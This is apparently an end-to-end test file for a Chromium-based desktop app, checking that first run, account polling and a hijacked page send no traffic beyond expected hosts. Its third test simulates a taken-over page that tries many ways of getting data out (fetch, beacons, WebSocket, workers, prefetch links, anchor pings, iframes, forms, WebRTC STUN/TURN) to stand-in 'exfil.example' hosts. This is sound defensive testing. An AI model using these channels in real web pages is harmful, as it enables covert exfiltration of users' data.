import { createSocket } from 'node:dgram';
import { join } from 'node:path';
import { once } from 'node:events';
import { expect } from '../e2e/desktop/index.ts';
import { connect, DASHBOARD, newProfile, test, WELCOME } from '../e2e/support.ts';
import { readNetLog, startProxyEar, type NetLog } from './ears.ts';

// Nothing is asked of a host but the account's own: a counting proxy beside the app, and Chromium's own record of every
// name that it looked up, every connection and every datagram, of all its processes.

const LOOPBACK = /^(?:https?:\/\/)?(?:127\.0\.0\.1|localhost)(?::\d+)?$/;
const foreign = (names: readonly string[]): string[] => names.filter((name) => !LOOPBACK.test(name));
const foreignRequests = (log: NetLog): string[] =>
  log.requested.filter(
    (url) => !url.startsWith('app://glance/') && !/^(?:http:\/\/127\.0\.0\.1:|data:image\/)/.test(url),
  );

test('first run, sample data, its popover and a start without an account: no host is asked for', async ({
  launch,
  desktop,
}) => {
  const ear = await startProxyEar();
  const netLog = join(desktop.home, 'net-demo.json');
  const app = await launch({
    userDataDir: await newProfile(desktop),
    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
    env: { https_proxy: ear.url, http_proxy: ear.url, no_proxy: '127.0.0.1', TZ: 'UTC' },
  });
  const page = await app.windowWith(WELCOME);
  // Text in a field is what spelling is checked in.
  await page.getByLabel('Account ID', { exact: true }).pressSequentially('teh misstake');
  await page.getByText('Explore with sample data').click();
  await expect(page.locator(DASHBOARD)).toBeVisible();
  await app.act(({ session }) => {
    // The clean end of the record; quitting would do the same a little later.
    void session.defaultSession.closeAllConnections();
  });
  await app.close();
  ear.close();
  const log = readNetLog(netLog);
  expect(ear.heard).toEqual([]);
  expect(foreign(log.lookedUp)).toEqual([]);
  expect(foreignRequests(log)).toEqual([]);
  expect(foreign(log.connectedTo)).toEqual([]);
  expect(foreign(log.datagramsTo)).toEqual([]);
  expect(log.requested.length).toBeGreaterThan(3);
});

test('an account’s polls ask for its host, and for nothing else', async ({ launch, desktop }) => {
  const ear = await startProxyEar();
  const netLog = join(desktop.home, 'net-account.json');
  const app = await launch({
    userDataDir: await newProfile(desktop),
    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
    env: { https_proxy: ear.url, http_proxy: ear.url, TZ: 'UTC' },
  });
  const page = await app.windowWith(WELCOME);
  await connect(page);
  await expect(page.getByTestId('connect-problem')).toBeVisible();
  await app.close();
  ear.close();
  const log = readNetLog(netLog);
  expect(new Set(ear.heard)).toEqual(new Set(['CONNECT acme.acquire.io:443']));
  expect(foreign(log.lookedUp).filter((name) => !/^(?:https:\/\/)?acme\.acquire\.io(?::443)?$/.test(name))).toEqual([]);
  expect(foreignRequests(log).every((url) => url.startsWith('https://acme.acquire.io/api/'))).toBe(true);
  expect(foreign(log.datagramsTo)).toEqual([]);
});

test('a page that has been taken over gets nothing out: fetch, WebRTC, name lookups, sockets, workers, frames', async ({
  launch,
  desktop,
}) => {
  const ear = await startProxyEar();
  const stun = createSocket('udp4');
  const datagrams: string[] = [];
  stun.on('message', (message) => datagrams.push(message.toString('hex')));
  stun.bind(0, '127.0.0.1');
  await once(stun, 'listening');
  const netLog = join(desktop.home, 'net-page.json');
  const app = await launch({
    userDataDir: await newProfile(desktop),
    args: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Everything'],
    env: { https_proxy: ear.url, http_proxy: ear.url, no_proxy: '', TZ: 'UTC' },
  });
  const page = await app.windowWith(WELCOME);
  const outcomes = await page.evaluate(
    async ({ proxy, stunPort }) => {
      const tried: Record<string, string> = {};
      const attempt = async (name: string, work: () => unknown): Promise<void> => {
        try {
          await work();
          tried[name] = 'done';
        } catch (error) {
          tried[name] = error instanceof Error ? error.name : 'refused';
        }
      };
      await attempt('fetch', () => fetch(`${proxy}/fetch`));
      await attempt('fetch https', () => fetch('https://fetch.exfil.example/'));
      await attempt('beacon', () => {
        if (!navigator.sendBeacon(`${proxy}/beacon`)) throw new Error('refused');
      });
      await attempt(
        'image',
        () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = () => reject(new Error('refused'));
            image.src = `${proxy}/image.png`;
          }),
      );
      await attempt(
        'socket',
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('ws://socket.exfil.example/');
            socket.onopen = resolve;
            socket.onerror = () => reject(new Error('refused'));
          }),
      );
      await attempt('worker', () => new Worker('data:text/javascript,fetch("http://worker.exfil.example/")'));
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet', 'modulepreload']) {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = `https://${rel}.exfil.example/`;
        document.head.append(link);
      }
      const anchor = document.createElement('a');
      anchor.href = 'https://anchor.exfil.example/';
      anchor.ping = 'https://ping.exfil.example/';
      anchor.textContent = 'out';
      document.body.append(anchor);
      anchor.click();
      const frame = document.createElement('iframe');
      frame.src = 'https://frame.exfil.example/';
      document.body.append(frame);
      const form = document.createElement('form');
      form.action = 'https://form.exfil.example/';
      document.body.append(form);
      await attempt('form', () => {
        form.submit();
      });
      const urls = [
        `stun:127.0.0.1:${stunPort}`,
        'stun:stun.exfil.example:3478',
        'turn:turn.exfil.example:3478?transport=udp',
        'turn:turntcp.exfil.example:3478?transport=tcp',
        'turns:turns.exfil.example:5349?transport=tcp',
      ];
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 4_000));
      return tried;
    },
    { proxy: ear.url, stunPort: stun.address().port },
  );
  await app.close();
  ear.close();
  stun.close();
  const log = readNetLog(netLog);
  for (const way of ['fetch', 'fetch https', 'image', 'socket'])
    expect([way, outcomes[way]]).not.toEqual([way, 'done']);
  expect(ear.heard).toEqual([]);
  expect(datagrams).toEqual([]);
  // Left open by Chromium: WebRTC looks up the names of TURN servers over TCP by itself before it uses the proxy that is
  // not there. Only these names, and only as questions to the name server.
  expect(foreign(log.lookedUp).filter((name) => !/^turn(?:s|tcp)\.exfil\.example\.?(?::\d+)?$/.test(name))).toEqual([]);
  expect(foreign(log.datagramsTo).filter((address) => !address.endsWith(':53'))).toEqual([]);
  expect(foreign(log.connectedTo)).toEqual([]);
});
